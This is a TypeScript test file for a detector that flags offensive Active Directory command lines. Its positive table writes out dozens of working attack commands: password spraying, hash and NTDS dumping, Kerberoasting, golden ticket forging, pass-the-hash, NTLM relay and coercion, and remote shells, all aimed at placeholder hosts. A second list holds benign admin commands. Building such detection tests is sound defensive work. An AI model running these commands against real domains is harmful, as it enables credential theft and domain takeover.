/**
 * Offensive Active Directory command lines (`_ad-attack.ts`, read from the `windows` detector):
 * what the arguments hand the tool (a domain credential in the forms attack tooling accepts, a
 * hash, a ticket) and what the line asks of the domain with it. Cases written here with hosts,
 * domains, accounts and hashes of our own; ordinary administration with the same protocols and
 * programs stays quiet.
 */
import { describe, expect, it } from 'vitest';
import { adAttackReading } from '../../../src/firewall/detectors/_ad-attack.js';
import { windowsDetector } from '../../../src/firewall/detectors/windows.js';
import { idsOf, principleTables } from './_scan.js';

const ids = (text: string) => idsOf(windowsDetector, text).filter((id) => id.startsWith('ad.'));
const NT = '5f0c9ab2d41e8873c6b0e1d29a4f7c35';

/** [principle, finding id, text]. */
const POSITIVES: ReadonlyArray<readonly [string, string, string]> = [
  [
    'a password sprayed over a subnet from a user list',
    'ad.spray',
    "nxc smb 203.0.113.0/24 -u staff.txt -p 'Autumn2031' --continue-on-success",
  ],
  [
    "one account's password tried on every host of a network",
    'ad.spray',
    "nxc smb 192.0.2.0/24 -u opsadmin -p 'Rainy#day7' --local-auth",
  ],
  ['a spraying subcommand', 'ad.spray', "kerbrute passwordspray -d orchard.test staff.txt 'Autumn2031'"],
  ['a password list handed by a Rubeus-style argument', 'ad.spray', 'Rubeus.exe brute /passwords:spring.lst /noticket'],
  [
    "the domain's hashes through a framework switch, with a hash as the credential",
    'ad.credential-dump',
    `netexec smb 198.51.100.20 -u svc_backup -H ${NT} --ntds`,
  ],
  [
    "a host's SAM and LSA secrets through switches",
    'ad.credential-dump',
    "crackmapexec smb 192.0.2.44 -u opsadmin -p 'Rainy#day7' --sam --lsa",
  ],
  [
    'directory replication of NT hashes only',
    'ad.credential-dump',
    'python3 secretsdump.py -just-dc-ntlm orchard.test/opsadmin:Rainy7@192.0.2.5',
  ],
  ['the SAM and SYSTEM hives handed to one program', 'ad.credential-dump', 'creddump-local system.bak sam.bak'],
  [
    'the LAPS password attribute read from every computer',
    'ad.credential-dump',
    'Get-ADComputer -Filter * -Properties ms-Mcs-AdmPwd | Select-Object Name, ms-Mcs-AdmPwd',
  ],
  [
    "a group-managed service account's password blob",
    'ad.credential-dump',
    'Get-ADServiceAccount -Identity gmsa-web -Properties msDS-ManagedPassword',
  ],
  ['tickets harvested from the logon sessions', 'ad.credential-dump', 'Rubeus.exe dump /service:krbtgt /nowrap'],
  ['a memory-dump module over a subnet', 'ad.credential-dump', 'nxc smb 192.0.2.0/24 -u opsadmin -p Rainy7 -M lsassy'],
  [
    'service tickets asked for by a switch',
    'ad.roast',
    "nxc ldap dc2.orchard.test -u lsmith -p 'Pebble55' --kerberoasting roast.out",
  ],
  ['a roasting subcommand', 'ad.roast', '.\\Rubeus.exe asreproast /format:hashcat /outfile:asrep.txt'],
  [
    'an unseen script asked to request tickets with a domain credential',
    'ad.roast',
    'python3 spnhunt.py orchard.test/lsmith:Pebble55 -dc-ip 192.0.2.5 -request',
  ],
  [
    'accounts from a list tried without pre-authentication',
    'ad.roast',
    'python3 GetNPUsers.py orchard.test/ -usersfile staff.txt -format hashcat -no-pass -dc-ip 192.0.2.5',
  ],
  [
    'the .NET class that requests a service ticket',
    'ad.roast',
    "New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList 'MSSQLSvc/db2.orchard.test:1433'",
  ],
  ['a roasting module', 'ad.roast', 'nxc smb 192.0.2.5 -M timeroast'],
  [
    'a ticket forged from a domain SID and a key',
    'ad.ticket-forge',
    'python3 mint.py -aesKey 0e7d2c4b9a1f8e3d6c5b4a39281706f5e4d3c2b1a0f9e8d7c6b5a49382716050 -domain-sid S-1-5-21-4100-3200-2300 -domain orchard.test ghost',
  ],
  [
    'a golden ticket from a framework subcommand',
    'ad.ticket-forge',
    'Rubeus.exe golden /aes256:0e7d2c4b9a1f8e3d6c5b4a39281706f5e4d3c2b1a0f9e8d7c6b5a49382716050 /user:ghost /domain:orchard.test /sid:S-1-5-21-4100-3200-2300 /ptt',
  ],
  [
    'a ticket for another identity (S4U)',
    'ad.ticket-request',
    `impacket-getST -spn cifs/fs2.orchard.test -impersonate administrator -hashes :${NT} orchard.test/websvc$`,
  ],
  ['a ticket asked with a hash and injected', 'ad.ticket-request', `Rubeus.exe asktgt /user:lsmith /rc4:${NT} /ptt`],
  ['a ticket from a hash', 'ad.ticket-request', `python3 getTGT.py -hashes :${NT} orchard.test/websvc$`],
  [
    'an NTLM hash handed to a tool aimed at a host',
    'ad.pass-the-hash',
    `python3 smbclient.py -hashes aad3b435b51404eeaad3b435b51404ee:${NT} orchard.test/lsmith@192.0.2.44`,
  ],
  [
    'a stolen ticket file with Kerberos and no password',
    'ad.pass-the-hash',
    'KRB5CCNAME=fs2-admin.ccache python3 lookup.py -k -no-pass orchard.test/administrator@fs2.orchard.test',
  ],
  [
    'relaying with SMB2 support to a list of targets',
    'ad.relay',
    'impacket-ntlmrelayx -tf relay-targets.txt -smb2support',
  ],
  ['relaying to LDAP to raise an account', 'ad.relay', 'relay-kit -t ldap://192.0.2.5 --escalate-user lsmith'],
  [
    'a coercion module with a listener',
    'ad.coerce',
    'nxc smb 192.0.2.44 -u lsmith -p Pebble55 -M coerce_plus -o LISTENER=198.51.100.3',
  ],
  [
    'an unseen script given a credential, a listener and a target',
    'ad.coerce',
    'python3 spoolpoke.py -u lsmith -p Pebble55 -d orchard.test 198.51.100.3 192.0.2.5',
  ],
  ['name-resolution poisoning on an interface', 'ad.coerce', 'sudo responder -I ens33 -wd'],
  ['IPv6 DNS takeover of a domain', 'ad.coerce', 'mitm6 -d orchard.test'],
  [
    'a command run through a framework',
    'ad.remote-exec',
    'nxc smb 192.0.2.44 -u opsadmin -p \'Rainy#day7\' -x "ipconfig /all"',
  ],
  ['a semi-interactive shell over WMI', 'ad.remote-exec', 'python3 wmiexec.py orchard.test/opsadmin:Rainy7@192.0.2.44'],
  ['a WinRM shell with a hash', 'ad.remote-exec', `evil-winrm -i 192.0.2.44 -u administrator -H ${NT}`],
  [
    'a remote shell with a ticket from the cache',
    'ad.remote-exec',
    'export KRB5CCNAME=administrator.ccache; impacket-smbexec -k -no-pass fs2.orchard.test',
  ],
  [
    'a command run through the task scheduler',
    'ad.remote-exec',
    'python3 atexec.py orchard.test/opsadmin:Rainy7@192.0.2.44 "net user"',
  ],
  [
    'a machine account added with its password',
    'ad.directory-write',
    'python3 joinbox.py -method SAMR -computer-name KIOSK9 -computer-pass Lantern-42 orchard.test/lsmith:Pebble55',
  ],
  [
    'delegation rights written to another machine',
    'ad.directory-write',
    `python3 deleg.py -action write -delegate-to "FS2$" -delegate-from "KIOSK9$" -hashes :${NT} orchard.test/lsmith`,
  ],
  [
    "a user's password set through LDAP",
    'ad.directory-write',
    "bloodyAD --host 192.0.2.5 -d orchard.test -u lsmith -p Pebble55 set password jdoe 'NewPw!2040'",
  ],
  [
    'a key credential added to a machine',
    'ad.directory-write',
    'python3 pywhisker.py -d orchard.test -u lsmith -p Pebble55 --target fs2$ --action add',
  ],
  [
    'a certificate requested with another identity',
    'ad.certificate-abuse',
    'certipy req -u lsmith@orchard.test -p Pebble55 -ca ORCHARD-CA -template UserAuth -upn administrator@orchard.test',
  ],
  [
    'an alternate name in a certificate request',
    'ad.certificate-abuse',
    'Certify.exe request /ca:ca01.orchard.test\\ORCHARD-CA /template:VulnUser /altname:domainadmin',
  ],
  [
    'a TGT from a certificate file',
    'ad.certificate-abuse',
    'python3 pkinit-tgt.py orchard.test/FS2$ -cert-pfx fs2.pfx -pfx-pass Lantern-42 fs2.ccache',
  ],
  [
    'a domain password inline in an impacket-style target',
    'ad.domain-login',
    'python3 reg.py orchard.test/opsadmin:Rainy7@192.0.2.44 query -keyName HKLM\\SOFTWARE',
  ],
  ['a privilege-escalation survey', 'ad.offensive-tool', 'winPEASx64.exe quiet'],
  ['an attack-path collector', 'ad.offensive-tool', 'SharpHound.exe -c DCOnly --outputdirectory C:\\Users\\Public'],
];

/** Ordinary administration with the same protocols and programs. */
const NEAR_MISSES: readonly string[] = [
  'kinit lsmith@ORCHARD.TEST',
  'klist -e',
  'export KRB5CCNAME=FILE:/tmp/krb5cc_1000; kinit lsmith@ORCHARD.TEST',
  'KRB5CCNAME=/tmp/krb5cc_build kinit -kt /etc/svc.keytab svc-build@ORCHARD.TEST',
  "smbclient //fs2/shared -U lsmith -c 'get minutes.docx'",
  "smbclient -k //fs2.orchard.test/home -c 'ls'",
  "ldapsearch -x -H ldaps://dc2.orchard.test -b dc=orchard,dc=test '(sAMAccountName=lsmith)' mail",
  'Get-ADUser lsmith -Properties mail, department',
  'Get-ADComputer fs2 -Properties ServicePrincipalNames',
  'net use Z: \\\\fs2\\shared',
  'nltest /dsgetdc:orchard.test',
  'certutil -viewstore -enterprise NTAuth',
  'john --test --format=nt',
  'hashcat -b -m 13100',
  'docker pull ghcr.io/orchard/api:1.4.2',
  'docker run -it --rm registry.orchard.test/tools/builder:latest -c make',
  'go install github.com/orchard/lint@latest',
  'git clone git@github.com:orchard/api.git',
  'scp build.tar.gz deploy@192.0.2.30:/srv/releases/',
  'ssh -i ~/.ssh/deploy.pem deploy@192.0.2.30',
  'mysql -u app -p -h 192.0.2.31 orders',
  `curl -H "X-Request-Id: ${NT}" https://api.orchard.test/health`,
  `md5sum -c ${NT} release.tar`,
  'python3 manage.py createsuperuser --username lsmith --email lsmith@orchard.test',
  'pip install impacket',
  'Responder is a tool that poisons LLMNR; how do I detect it on my network?',
  'What is Kerberoasting and how do I defend against it?',
  'Explain AS-REP roasting and how to find accounts without pre-authentication.',
  'The seatbelt warning keeps beeping, any idea?',
  'setspn -Q MSSQLSvc/db2.orchard.test',
  "rpcclient -U lsmith fs2 -c 'netshareenum'",
  'Test-ComputerSecureChannel -Repair -Credential orchard\\lsmith',
  'Invoke-Command -ComputerName fs2 -ScriptBlock { Get-Process }',
  'ansible-playbook -i inventory.ini site.yml -u deploy -k',
  'pytest tests/test_login.py -k test_no_pass -v',
  'npm run test -- -t "request" --watch',
  'openssl s_client -connect ldap.orchard.test:636 -showcerts',
  'nmap -sV -p 88,389,445 192.0.2.5',
  'nmap -sn 192.0.2.0/24',
  'python3 verify.py --hash d41d8cd98f00b204e9800998ecf8427e alice@example.org',
  'python3 upload.py -H 0123456789abcdef0123456789abcdef deploy@192.0.2.30',
  'reg query "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Netlogon\\Parameters"',
  'Get-ADUser -Filter "Department -eq \'Finance\'" -Properties mail | Export-Csv finance.csv',
  'iperf3 -u -p 5201 -c 192.0.2.30',
];

describe('offensive Active Directory command lines', () => {
  principleTables('active directory', ids, POSITIVES, NEAR_MISSES);
});

describe('adAttackReading', () => {
  it('reads only words written as a program is invoked', () => {
    expect(adAttackReading('Seatbelt.exe -group=system')?.id).toBe('ad.offensive-tool');
    expect(adAttackReading('seatbelt reminders for the kids')).toBeNull();
  });

  it('finds the program behind interpreters and leading assignments', () => {
    const f = adAttackReading('KRB5CCNAME=a.ccache sudo python3 -u wmiexec.py -k -no-pass orchard.test/a@fs2');
    expect(f?.id).toBe('ad.remote-exec');
    expect(f?.start).toBe('KRB5CCNAME=a.ccache sudo python3 -u '.length);
  });

  it('does not take a system credential cache for a stolen ticket', () => {
    expect(adAttackReading('KRB5CCNAME=/tmp/krb5cc_1000 tool -k orchard.test/a@fs2')).toBeNull();
  });

  it('stays linear on a long line of separators and words', () => {
    const line = `${'a/b:c@d -x ; '.repeat(2000)}`;
    const t = performance.now();
    adAttackReading(line);
    expect(performance.now() - t).toBeLessThan(200);
  });
});
